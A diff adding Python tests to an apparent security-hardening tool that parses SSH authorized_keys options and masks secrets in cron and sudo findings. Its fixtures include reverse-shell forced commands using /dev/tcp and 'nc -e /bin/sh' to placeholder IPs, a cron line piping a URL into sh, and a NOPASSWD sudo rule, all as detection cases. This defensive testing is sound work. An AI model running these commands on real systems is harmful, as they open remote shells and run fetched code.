@@ -409,3 +409,30 @@ def test_piece_reads_the_keys_authorizedkeysfile_names(tmp_path):
     assert found[f"{root}/etc/ssh/keys/alice"].tier is Tier.HIGH
     assert f"{root}/home/alice/.ssh/authorized_keys" not in found
     assert report.counts["authorized_keys"].files == 2
+
+
+def test_key_options_are_read_as_sshd_reads_them():
+    from hardening.hunt.authkeys import key_options
+
+    blob = "AAAAC3NzaC1lZDI1NTE5AAAAIFcsjE3eyQds6dpATMvIqhx6zKxbvQqOuRNFBu2pFOr8"
+    assert key_options(f'command="echo \\"a b\\"",no-pty ssh-ed25519 {blob} x') == (
+        ("command", 'echo "a b"'),
+        ("no-pty", None),
+    )
+    assert key_options(f'ssh-ed25519 {blob} command="bash -i >& /dev/tcp/1.2.3.4/5 0>&1"') == ()  # a comment
+    assert key_options('# command="nc -e /bin/sh 1.2.3.4 5" ssh-ed25519 AAAA') == ()
+    cut = 'command="nc -e /bin/sh 198.51.100.9 4444" ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAC'  # a long key cut off
+    assert key_options(cut) == (("command", "nc -e /bin/sh 198.51.100.9 4444"),)
+    assert key_options('COMMAND="id" ssh-ed25519 AAAA') == (("command", "id"),)
+
+
+def test_secrets_in_rated_lines_and_reasons_are_masked_after_scoring():
+    from hardening.hunt.persistence import Entry, _finding
+
+    e = Entry("cron", "/etc/cron.d/x", "root", 0, "644", None, None, "no")
+    f = _finding(e, ((1, "* * * * * root /opt/sync --token s3cr3t https://u:pw@h/ | sh"),), Tier.HIGH,
+                 ["line 1: runs --token s3cr3t", "line 1: runs --token s3cr3t"])  # fmt: skip
+    assert "s3cr3t" not in f.entry.lines[0][1] and ":pw@" not in f.entry.lines[0][1]
+    assert f.reasons == ("line 1: runs --token ********",)
+    kept = _finding(e, ((1, "p21 ALL=(root) NOPASSWD: /tmp/p21-helper"),), Tier.HIGH, [])
+    assert kept.entry.lines[0][1].endswith("NOPASSWD: /tmp/p21-helper")  # sudo's tag is no password
